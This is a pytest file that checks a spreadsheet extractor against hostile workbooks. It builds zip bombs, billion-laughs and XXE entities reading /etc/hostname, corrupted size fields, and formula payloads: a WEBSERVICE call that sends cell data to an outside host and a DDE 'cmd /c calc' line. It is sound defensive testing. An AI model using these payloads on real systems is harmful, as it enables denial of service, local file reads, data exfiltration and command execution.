"""Workbooks that mean harm: each ends soon, with one clear problem; nothing in one is run or followed."""

from __future__ import annotations

import io
import shutil
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from hostile_files import read_apart, sheet, workbook
from test_hostile_pdfs import clear

from extractors.any_tables import any_tables
from extractors.errors import DataError
from extractors.limits import Limits
from extractors.sheets import read_workbook

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
SMALL = 5 << 20
MEGABYTES = 600
LAUGHS = b'<!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' + b"".join(
    b'<!ENTITY %c "%b">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("c"), ord("l"))) + b"]>"
OUTSIDE = b'<!DOCTYPE sst [<!ENTITY a SYSTEM "file:///etc/hostname">]>'


def blanks(path: Path) -> Path:
    return workbook(path, {SHEET: sheet(b" " * (1 << 20) for _ in range(2000))})


def formatted_rows(path: Path) -> Path:
    return workbook(path, {SHEET: sheet(b'<row r="%d" s="1" customFormat="1"/>' % row for row in range(1, 1_200_000))})


def formatted_cells(path: Path) -> Path:
    cells = b'<c s="1"/>' * 1000
    return workbook(path, {SHEET: sheet(b'<row r="%d">%b</row>' % (row, cells) for row in range(1, 1200))})


def merged_areas(path: Path) -> Path:
    areas = (b'<mergeCell ref="A%d:XFD1048576"/>' % row for row in range(1, 1_100_000))
    return workbook(path, {SHEET: (part for part in (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><mergeCells>',
        *areas, b"</mergeCells></worksheet>"))})


def swollen_strings(path: Path) -> Path:
    def strings() -> Iterator[bytes]:
        yield b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        yield from (b"<si><t>%b</t></si>" % (b"a" * (1 << 20)) for _ in range(60))
        yield b"</sst>"

    return workbook(path, {STRINGS: strings()})


def many_parts(path: Path) -> Path:
    return workbook(path, {f"xl/media/{number}.bin": b"" for number in range(Limits().parts + 1)})


def bomb_in_a_bomb(path: Path) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("a.bin", "w") as stream:
        for _ in range(500):
            stream.write(b"\0" * (1 << 20))
    return workbook(path, {f"xl/embeddings/{number}.zip": inner.getvalue() * 64 for number in range(9)})


BEYOND = [blanks, formatted_rows, formatted_cells, merged_areas, swollen_strings, many_parts, bomb_in_a_bomb]


@pytest.mark.skipif(sys.platform == "win32", reason="there is no peak of a child's memory on Windows")
@pytest.mark.parametrize("make", BEYOND, ids=lambda make: make.__name__)
def test_a_bomb_is_refused(make: Callable[[Path], Path], tmp_path: Path) -> None:
    path = make(tmp_path / "biểu.xlsx")
    assert path.stat().st_size < SMALL
    told = read_apart(path)
    clear(told, path, {"file_too_large"})
    assert told.problems[0]["expected"]
    assert told.child < MEGABYTES and told.own < MEGABYTES


@pytest.mark.parametrize("part", [SHEET, STRINGS, "xl/workbook.xml", "docProps/core.xml", "xl/styles.xml"])
@pytest.mark.parametrize("declared", [LAUGHS, OUTSIDE], ids=["billion laughs", "file of this machine"])
def test_no_entity_is_taken(part: str, declared: bytes, tmp_path: Path) -> None:
    plain = workbook(tmp_path / "a.xlsx", {STRINGS: b"<sst/>"})
    with zipfile.ZipFile(plain) as archive:
        content = archive.read(part) if part != STRINGS else b"<sst><si><t>a</t></si></sst>"
    head, _, rest = content.rpartition(b"?>")
    written = {STRINGS: b"<sst/>", part: head + (b"?>" if head else b"") + declared + rest.replace(b"</t>", b"&a;</t>")}
    path = workbook(tmp_path / "b.xlsx", written)
    with pytest.raises(DataError) as stopped:
        read_workbook(path)
    assert [problem.code for problem in stopped.value.problems] == ["file_with_entities"]


def test_a_sheet_that_claims_to_be_huge_is_read_as_it_is(tmp_path: Path) -> None:
    def change(xml: bytes) -> bytes:
        return xml.replace(b'<dimension ref="A1:B1"/>', b'<dimension ref="A1:XFD1048576"/>').replace(
            b"<sheetData>", b'<cols><col min="1" max="2000000000" hidden="1"/></cols><sheetData>')

    book = read_workbook(changed(tmp_path, SHEET, change))
    assert len(book.sheets[0].cells) == 2 and len(book.sheets[0].hidden_columns) == 16_384


@pytest.mark.parametrize("place", [b"A99999999999", b"AAAAAAA1", b"A0"])
def test_a_cell_where_no_sheet_has_one_is_damage(place: bytes, tmp_path: Path) -> None:
    path = changed(tmp_path, SHEET, lambda xml: xml.replace(b'r="A1"', b'r="%b"' % place))
    with pytest.raises(DataError) as stopped:
        read_workbook(path)
    assert [problem.code for problem in stopped.value.problems] == ["file_damaged"]


def test_lying_sizes_of_a_packed_workbook_are_damage(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", {SHEET: sheet([b" " * 100_000])})
    whole = path.read_bytes()
    size = (100_000 + len(b"".join(sheet([])))).to_bytes(4, "little")
    assert size in whole
    path.write_bytes(whole.replace(size, (50).to_bytes(4, "little")))
    with pytest.raises(DataError) as stopped:
        read_workbook(path)
    assert [problem.code for problem in stopped.value.problems] == ["file_damaged"]


@pytest.mark.skipif(sys.platform == "win32", reason="there is no peak of a child's memory on Windows")
@pytest.mark.parametrize("at", [44, 48, 60, 68, 72, 0x200, 0x204, 0x220])
def test_an_old_workbook_with_lying_sizes_ends(at: int, tmp_path: Path) -> None:
    """Places of the head of the container: sectors of tables, of directories, and the first of them."""
    path = Path(shutil.copy(Path(__file__).parent / "workbooks" / "old-form.xls", tmp_path / "a.xls"))
    whole = bytearray(path.read_bytes())
    whole[at:at + 4] = b"\x00\x00\x00\x01" if at % 8 else b"\xf0\xff\xff\x7f"
    path.write_bytes(whole)
    told = read_apart(path, memory_megabytes=512)
    assert told.seconds < 30 and told.child < 512
    assert [problem["code"] for problem in told.problems] in ([], ["file_damaged"])


def test_what_a_spreadsheet_would_run_or_follow_is_known_and_left(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsm", {
        "xl/vbaProject.bin": b"x", "xl/connections.xml": b"<connections/>",
        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships/>'})
    assert read_workbook(path).active == ("macros", "external_links", "connections", "dde")
    assert read_workbook(workbook(tmp_path / "b.xlsx", {})).active == ()


def test_a_formula_that_calls_out_is_its_stored_result_and_nothing_else(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = '=WEBSERVICE("http://example.invalid/?"&A2)'
    book.active["A2"] = "=cmd|'/c calc'!A0"
    book.save(tmp_path / "a.xlsx")
    assert [[row[0] for row in table["rows"]] for table in any_tables(tmp_path / "a.xlsx")] == [
        ['=WEBSERVICE("http://example.invalid/?"&A2)', "=cmd|'/c calc'!A0"]]


def changed(folder: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    plain = workbook(folder / "a.xlsx", {})
    with zipfile.ZipFile(plain) as archive:
        content = archive.read(part)
    assert change(content) != content
    return workbook(folder / "b.xlsx", {part: change(content)})
